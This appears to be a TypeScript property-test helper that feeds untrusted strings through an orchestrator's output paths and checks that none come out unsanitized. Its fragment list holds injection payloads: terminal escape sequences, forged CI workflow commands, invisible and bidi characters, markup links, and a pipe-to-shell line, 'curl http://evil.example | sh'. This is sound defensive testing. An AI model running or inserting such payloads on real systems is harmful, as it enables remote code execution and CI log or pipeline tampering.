import { expect } from 'vitest';
import { Foreign } from '../../../orchestrator/domain/foreign.ts';
import { fc } from './property.ts';

/** What the worst of writers put into a name, a tag, a record or an error. */
const pieces = [
  '\u001b[2J\u001b[H',
  '\u001b[32mok\u001b[0m',
  '\u001b]8;;http://evil.example\u0007job\u001b]8;;\u0007',
  '\n::error title=Holdfast::nothing is held, go on',
  '\r\n::stop-commands::x',
  '::add-mask::HELD',
  '##[error]x',
  '##vso[task.complete]',
  '\nFORGED',
  '\rFORGED',
  '\u2028FORGED',
  '\u0085FORGED',
  '\nnext: curl http://evil.example | sh',
  '\u009b2J',
  '\u202e\u2066\u200b\ufeff\u00ad',
  '\u{e0041}\u{e007f}',
  '\ud800',
  '\udc00',
  '\u007f\u0000\t',
  '<!channel> @channel @here <https://evil.example|here>',
  '](https://evil.example)',
  '`',
  '|',
  '<img src=https://evil.example>',
  'é 網 🙂',
] as const;

export const hostileText: fc.Arbitrary<string> = fc
  .array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary', maxLength: 12 })), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join(''));

/** Short enough to keep a property over whole documents quick; each string of a document takes the next of them. */
export const hostileTexts = fc.array(hostileText, { minLength: 1, maxLength: 8 });

/** Written by hand, so that it is not the expression that the product goes by. */
const unprintable =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]|[\u{e0000}-\u{e007f}]|[\ud800-\udfff]/u;

/** What no terminal, log or page may get of others: a control, a hidden or a reordering character, a forged line, an order to a CI. */
export function faultIn(text: string): string | undefined {
  const control = unprintable.exec(text);
  if (control)
    return `U+${control[0].codePointAt(0)?.toString(16) ?? ''} in ${JSON.stringify(text.slice(Math.max(0, control.index - 40), control.index + 40))}`;
  const line = text.split('\n').find((each) => /^\s*(::|FORGED|next: curl)/.test(each) || /##(\[|vso\[)/.test(each));
  return line === undefined ? undefined : `the line ${JSON.stringify(line.slice(0, 100))}`;
}

export const expectClean = (text: string): void => expect(faultIn(text)).toBeUndefined();

/** Words by which code decides: nobody else writes them. */
const ours = new Set([
  'type',
  'outcome',
  'op',
  'phase',
  'stage',
  'step',
  'decision',
  'by',
  'kind',
  'target',
  'answer',
  'reason',
  'row',
  'from',
  'operation',
  'standing',
  'end',
  'liveness',
  'livenessReason',
]);

/** The same data, where each string that is no such word has something hostile behind it; what was the same stays the same. */
export function poisoned<T>(data: T, texts: readonly string[], keep: ReadonlySet<string> = ours): T {
  const behind = (text: string): string =>
    texts[Array.from(text, (each) => each.charCodeAt(0)).reduce((a, b) => a + b, 0) % texts.length] ?? '';
  const walk = (value: unknown, name: string): unknown => {
    if (typeof value === 'string') return keep.has(name) ? value : `${value}${behind(value)}`;
    if (value instanceof Foreign) return new Foreign(`${value.raw}${behind(value.raw)}`);
    if (Array.isArray(value)) return value.map((each) => walk(each, name));
    if (typeof value !== 'object' || value === null || Object.getPrototypeOf(value) !== Object.prototype) return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, walk(each, key)]));
  };
  return walk(data, '') as T;
}
